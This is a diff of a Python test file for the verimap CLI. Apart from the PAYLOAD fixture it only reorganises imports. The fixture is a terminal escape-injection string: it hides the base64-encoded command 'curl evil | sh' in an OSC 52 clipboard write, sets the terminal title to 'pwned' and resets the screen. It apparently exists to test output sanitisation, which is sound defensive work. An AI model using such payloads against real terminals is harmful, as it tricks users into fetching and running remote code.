@@ -18,11 +18,12 @@ from verimap import events as ev
 from verimap.cli import main
 from verimap.cli import run as run_mod
 from verimap.cli.run import print_result
+from verimap.core.result import AttemptReport, NodeReport, RunResult
 from verimap.live import LiveState
 from verimap.live_view import render_run
 from verimap.llm.base import ModelError
-from verimap.result import AttemptReport, NodeReport, RunResult, VFVerdict
 from verimap.testing import ScriptedModel, ScriptedWorld
+from verimap.verdicts import VFVerdict
 
 PAYLOAD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\x1bc\x1b[2J\x9b2J"
 # The same, as a Python string literal inside VF code.
